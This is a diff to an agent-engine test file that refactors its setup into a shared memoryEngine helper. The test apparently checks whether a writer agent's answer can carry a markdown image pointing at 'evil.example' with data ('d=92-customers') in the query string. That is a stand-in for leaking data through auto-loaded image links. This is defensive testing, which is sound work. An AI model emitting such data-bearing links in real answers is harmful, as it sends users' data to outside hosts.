@@ -1,16 +1,9 @@
-import { afterEach, expect, it } from 'vitest'
+import { expect, it } from 'vitest'
 import { z } from 'zod'
-import { agent, engineFor, request, task } from '../../../test/support/engine-world.ts'
+import { agent, memoryEngine, request, task } from '../../../test/support/engine-world.ts'
 import type { ActorContext } from '../../domain/actor.ts'
 import { ownData } from '../../domain/provenance.ts'
 import { defineTool } from '../../domain/tool.ts'
-import { MemoryStore } from '../../storage/memory-store.ts'
-import { MemoryWakeLog } from '../../storage/wake-log.ts'
-import { ManualClock } from '../../testing/manual-clock.ts'
-import type { Engine } from '../engine.ts'
-
-let engine: Engine | undefined
-afterEach(() => engine?.close())
 
 const OWN = 'https://evil.example/p?d=92-customers'
 const FOUND = 'https://shop.example/orders?page=2'
@@ -37,10 +30,7 @@ async function answerWith(url: string, calls: Calls): Promise<string | undefined
     await calls(ctx)
     return { answer: `There are 92. ![status](${url})` }
   })
-  engine = engineFor([writer], {
-    store: new MemoryStore(new MemoryWakeLog(), () => undefined),
-    clock: new ManualClock(),
-  })
+  const { engine } = await memoryEngine([writer])
   const runId = await engine.start(request([task('writer', 'writer')], { question: `What is new at ${NAMED} ?` }))
   const { jobs } = await engine.outcome(runId)
   return jobs.get('writer')?.result?.answer
